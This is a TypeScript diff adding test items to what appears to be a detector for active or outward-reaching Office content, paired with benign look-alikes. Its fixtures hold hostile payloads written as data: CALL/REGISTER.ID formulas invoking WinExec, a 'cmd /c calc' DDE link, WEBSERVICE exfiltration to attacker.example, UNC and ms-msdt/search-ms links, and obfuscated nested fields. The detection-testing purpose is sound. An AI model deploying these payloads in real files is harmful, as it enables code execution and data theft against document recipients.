@@ -55,6 +55,16 @@ import {
   wordVbaData,
 } from '../../fixtures/active-office.ts';
 import {
+  binarySheet,
+  documentVml,
+  formControlFormula,
+  hyperlinkBase,
+  macroSheetByRelationship,
+  nestedField,
+  sheetWith,
+  workbookVml,
+} from '../../fixtures/active-office.ts';
+import {
   ofdAnnotationAction,
   ofdEncodedAction,
   ofdFontFile,
@@ -1013,7 +1023,13 @@ const officeItems: CorpusItem[] = [
     expect: 'OOXML_EXTERNAL',
   },
   ...hiddenOfficeItems(),
+  ...reachingOfficeItems(),
 ];
+
+/** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
+function item(id: string, category: string, bytes: () => Promise<Buffer>, expect: FindingCode): CorpusItem {
+  return { id, category, declared: id.startsWith('xlsx') ? 'xlsx' : 'docx', bytes, expect };
+}
 
 /**
  * Office content found in this round's hunt: documents imported by altChunk, the other field
@@ -1029,13 +1045,6 @@ function hiddenOfficeItems(): CorpusItem[] {
     office('xlsx', {
       'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/>${inner}</worksheet>`,
     });
-  const item = (id: string, category: string, bytes: () => Promise<Buffer>, expect: FindingCode): CorpusItem => ({
-    id,
-    category,
-    declared: id.startsWith('xlsx') ? 'xlsx' : 'docx',
-    bytes,
-    expect,
-  });
   const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
   const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
   /** An attribute in a namespace Office is told to ignore, its value holding `>`. */
@@ -1499,6 +1508,270 @@ function hiddenOfficeItems(): CorpusItem[] {
           uncHyperlink('x.docx'),
         ]),
       'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/**
+ * Office content that reaches out by other ways (round 6): worksheet functions that start a
+ * program or fetch a URL as the sheet recalculates (RTD, CALL, REGISTER.ID, EVALUATE, WEBSERVICE,
+ * IMAGE) wherever a formula is, a sheet in Excel's binary form, VML shapes naming a picture's
+ * source directly, and a Word field whose name a nested field computes.
+ */
+function reachingOfficeItems(): CorpusItem[] {
+  const FUNCTION = 'Worksheet function that reaches out';
+  const VML = 'VML source outside the package';
+  const NESTED = 'Field named by a nested field';
+  const q = (text: string) => `&quot;${text}&quot;`;
+  const rtd = `RTD(${q('attacker.rtdserver')},,${q('x')})`;
+  const webservice = `_xlfn.WEBSERVICE(${q('http://attacker.example/?d=')}&amp;A2)`;
+  const unc = '\\\\attacker.example\\x.png';
+  return [
+    item('xlsx-rtd-formula', FUNCTION, () => sheetWithFormula(rtd), 'OOXML_DDE'),
+    item('xlsx-webservice-formula', FUNCTION, () => sheetWithFormula(webservice), 'OOXML_EXTERNAL'),
+    item(
+      'xlsx-image-formula',
+      FUNCTION,
+      () => sheetWithFormula(`_xlfn.IMAGE(${q('https://attacker.example/p.png')})`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-call-defined-name',
+      FUNCTION,
+      () => definedNameFormula(`CALL(${q('kernel32')},${q('WinExec')},${q('JCJ')},${q('calc')},0)`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-register-id-formula',
+      FUNCTION,
+      () => sheetWithFormula(`REGISTER.ID(${q('kernel32')},${q('WinExec')},${q('JCJ')})`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-evaluate-built-call',
+      FUNCTION,
+      () => definedNameFormula(`EVALUATE(${q('R')}&amp;${q('TD(')}&amp;A1&amp;${q(')')})`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-webservice-lowercase-spaced',
+      FUNCTION,
+      () => sheetWithFormula(`_xlfn.webservice (${q('http://attacker.example/')})`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-rtd-character-references',
+      FUNCTION,
+      () => sheetWithFormula(`&#82;TD&#40;${q('x')},,${q('y')})`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-rtd-shared-formula',
+      FUNCTION,
+      () =>
+        office('xlsx', {
+          'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A9" si="0">${rtd}</f><v>0</v></c><c r="A2"><f t="shared" si="0"/><v>0</v></c></row></sheetData></worksheet>`,
+        }),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-webservice-conditional-format',
+      FUNCTION,
+      () =>
+        sheetWith(
+          `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>LEN(${webservice})&gt;0</formula></cfRule></conditionalFormatting>`,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-rtd-data-validation',
+      FUNCTION,
+      () =>
+        sheetWith(
+          `<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>${rtd}=1</formula1></dataValidation></dataValidations>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item('xlsx-rtd-form-control-link', FUNCTION, () => formControlFormula(rtd), 'OOXML_DDE'),
+    item('xlsx-binary-sheet-override', 'OOXML unreadable', () => binarySheet('override'), 'OOXML_UNREADABLE'),
+    item('xlsx-binary-sheet-default', 'OOXML unreadable', () => binarySheet('default'), 'OOXML_UNREADABLE'),
+    item(
+      'docx-vml-imagedata-unc',
+      VML,
+      () => documentVml(`<v:shape style="width:9pt;height:9pt"><v:imagedata src="${unc}"/></v:shape>`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-vml-fill-file-url',
+      VML,
+      () => documentVml('<v:shape><v:fill type="frame" o:href="file://attacker.example/share/x.png"/></v:shape>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-vml-imagedata-mhtml',
+      VML,
+      () => documentVml('<v:shape><v:imagedata src="mhtml:http://attacker.example/x.mht!x.png"/></v:shape>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-vml-comment-fill-unc',
+      VML,
+      () => workbookVml(`<v:shape type="#_x0000_t202"><v:fill o:relid="rId1" src="${unc}" type="frame"/></v:shape>`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-vml-drawing-outside-xl',
+      VML,
+      () => workbookVml(`<v:shape><v:imagedata src="${unc}"/></v:shape>`, 'drawings/d.vml'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-vml-type-on-xml-name',
+      'OOXML unreadable',
+      () => workbookVml(`<v:shape><v:imagedata src="${unc}"/></v:shape>`, 'xl/drawings/d.xml', true),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-field-name-from-nested-quote',
+      NESTED,
+      () => documentWith(nestedField('', ' QUOTE "INCLUDE" ', `PICTURE "${unc}" \\d `)),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-field-name-completed-by-nested',
+      NESTED,
+      () => documentWith(nestedField(' DD', ' QUOTE "E" ', 'AUTO c:\\x.exe "a" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-field-name-and-path-nested',
+      NESTED,
+      // Both name and path computed: `{QUOTE 92 92 …}` spells a UNC path from character codes.
+      () => {
+        const path = [...'\\\\attacker.example\\x.png'].map((c) => c.charCodeAt(0)).join(' ');
+        const field = nestedField('', ' QUOTE "INCLUDEPICTURE" ', ' ');
+        const end = field.indexOf('<w:r><w:fldChar w:fldCharType="separate"/>');
+        return documentWith(`${field.slice(0, end)}${complexField(` QUOTE ${path} `)}${field.slice(end)}`);
+      },
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-field-name-from-nested-simple-field',
+      NESTED,
+      () =>
+        documentWith(
+          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:fldSimple w:instr=" QUOTE &quot;INCLUDE&quot; "/><w:r><w:instrText>PICTURE "${unc}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item('xlsx-macro-sheet-by-relationship-type', 'macros', macroSheetByRelationship, 'MACROS'),
+    item(
+      'docx-ole-link-mhtml-through-hyperlink-relationship',
+      'OOXML external',
+      () =>
+        documentLinking(
+          '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rId9" UpdateMode="Always"/></w:object></w:r></w:p>',
+          [rel('rId9', 'hyperlink', 'mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html', true)],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    ...[
+      ['ms-msdt', 'ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=x&quot;'],
+      ['search-ms', 'search-ms:query=x&amp;crumb=location:\\\\attacker.example\\share'],
+    ].map(([scheme, target]) =>
+      item(
+        `docx-hyperlink-${scheme}`,
+        'OOXML external',
+        () =>
+          documentLinking('<w:p><w:hyperlink r:id="rId9"><w:r><w:t>详情</w:t></w:r></w:hyperlink></w:p>', [
+            rel('rId9', 'hyperlink', target ?? '', true),
+          ]),
+        'OOXML_EXTERNAL',
+      ),
+    ),
+    item(
+      'xlsx-formula-reference-unc-path',
+      'OOXML external',
+      () => sheetWithFormula("'\\\\attacker.example\\share\\[b.xlsx]Sheet1'!A1"),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-defined-name-reference-url',
+      'OOXML external',
+      () => definedNameFormula("'https://attacker.example/d/[b.xlsx]Sheet1'!$A$1"),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-ole-object-link-dde',
+      'DDE',
+      () =>
+        sheetWith(
+          `<oleObjects><oleObject progId="Word.Document.12" link="cmd|' /c calc'!A0" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-ole-object-link-unc',
+      'OOXML external',
+      () =>
+        sheetWith(
+          `<oleObjects><oleObject progId="Package" link="'\\\\attacker.example\\share\\x.docx'!''''" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>`,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-base-unc',
+      'OOXML external',
+      () => hyperlinkBase('\\\\attacker.example\\share\\'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-base-program',
+      'OOXML external',
+      () => hyperlinkBase('search-ms:crumb=location:'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-extended-properties-other-name',
+      'OOXML unreadable',
+      () => hyperlinkBase('\\\\attacker.example\\share\\', 'docProps/extra.xml'),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-hyperlink-field-unc',
+      'OOXML external',
+      () => documentWith(complexField(' HYPERLINK \\o "附件" "', '\\\\\\\\attacker.example', '\\\\share\\\\x.docx" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-simple-field-program',
+      'OOXML external',
+      () => documentWith('<w:fldSimple w:instr=" HYPERLINK &quot;ms-msdt:/id PCWDiagnostic /skip force&quot; "/>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-function-unc',
+      'OOXML external',
+      () => sheetWithFormula('HYPERLINK(&quot;\\\\attacker.example\\share\\x.xlsx&quot;,&quot;附件&quot;)'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-pivot-calculated-field-webservice',
+      FUNCTION,
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/pivotCache/pivotCacheDefinition1.xml',
+            data: `<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cacheFields count="1"><cacheField name="x" numFmtId="0" formula="${webservice}" databaseField="0"/></cacheFields></pivotCacheDefinition>`,
+          },
+        ]),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-files-on-share-defined-name',
+      FUNCTION,
+      () => definedNameFormula(`FILES(${q('\\\\attacker.example\\share\\*')})`),
+      'OOXML_DDE',
     ),
   ];
 }
@@ -2126,4 +2399,76 @@ export const ACTIVE_GENUINE: readonly {
     bytes: () => ofdSchemaHint('http://www.ofdspec.org/2016 http://www.ofdspec.org/2016/OFD.xsd'),
   },
   { id: 'ofd-version', declared: 'ofd', bytes: () => ofdVersion('Doc_0/Versions/Version_0.xml', 'Document.xml') },
+  // Look-alikes of round 6's items: functions named in strings, nested fields in formulas and
+  // results, a comment's VML drawing, a VML shape linking to a web page.
+  {
+    id: 'xlsx-functions-named-in-strings',
+    declared: 'xlsx',
+    bytes: () =>
+      sheetWithFormula(
+        'IF(A1=&quot;RTD(x)&quot;,SUM(B1:B9),_xlfn.CONCAT(&quot;IMAGE(&quot;,A2,&quot;WEBSERVICE(&quot;))&amp;VLOOKUP(A3,B:C,2,FALSE)&amp;HYPERLINK(&quot;https://www.miit.gov.cn/&quot;)',
+      ),
+  },
+  {
+    id: 'docx-nested-fields-with-named-outer',
+    declared: 'docx',
+    bytes: () =>
+      documentWith(
+        nestedField(' = ', ' PAGE ', ' + 1 ') +
+          nestedField('=', ' NUMPAGES ', '*2') +
+          nestedField(' IF ', ' MERGEFIELD 类别 ', ' = "国家级" "是" "否" ') +
+          // A table of contents: its result holds PAGEREF fields, after its `separate`.
+          complexField(' TOC \\o "1-3" \\h ').replace('<w:r><w:t>1</w:t></w:r>', complexField(' PAGEREF _Toc1 \\h ')),
+      ),
+  },
+  {
+    id: 'xlsx-comment-vml-drawing',
+    declared: 'xlsx',
+    bytes: () =>
+      workbookVml(
+        '<v:shapetype id="_x0000_t202" coordsize="21600,21600" o:spt="202" path="m,l,21600r21600,l21600,xe"><v:stroke joinstyle="miter"/><v:path gradientshapeok="t" o:connecttype="rect"/></v:shapetype><v:shape id="_x0000_s1025" type="#_x0000_t202" fillcolor="#ffffe1"><v:fill color2="#ffffe1"/><v:imagedata o:relid="rId1" o:title="图片"/><x:ClientData ObjectType="Note"><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape>',
+      ),
+  },
+  {
+    id: 'docx-vml-shape-web-link',
+    declared: 'docx',
+    bytes: () =>
+      documentVml(
+        '<v:shape href="https://www.miit.gov.cn/" style="width:9pt;height:9pt"><v:fill color="red"/></v:shape>',
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'xlsx-paths-in-strings',
+    declared: 'xlsx',
+    bytes: () =>
+      sheetWithFormula(
+        'IF(ISNUMBER(SEARCH(&quot;https://&quot;,A1)),SUBSTITUTE(A1,&quot;\\&quot;,&quot;/&quot;),&quot;\\\\server\\share&quot;)',
+      ),
+  },
+  {
+    id: 'docx-hyperlink-mailto',
+    declared: 'docx',
+    bytes: () =>
+      documentLinking('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>联系我们</w:t></w:r></w:hyperlink></w:p>', [
+        rel('rId7', 'hyperlink', 'mailto:cluster@miit.gov.cn', true),
+      ]),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'docx-hyperlink-base-web',
+    declared: 'docx',
+    bytes: () => hyperlinkBase('https://www.miit.gov.cn/'),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'docx-hyperlink-fields-web-and-bookmark',
+    declared: 'docx',
+    bytes: () =>
+      documentWith(
+        complexField(' HYPERLINK "https://www.miit.gov.cn/" \\o "工信部" ') +
+          complexField(' HYPERLINK \\l "_Toc1" ') +
+          '<w:fldSimple w:instr=" HYPERLINK &quot;附件\\\\annex.pdf&quot; "/>',
+      ),
+  },
 ];
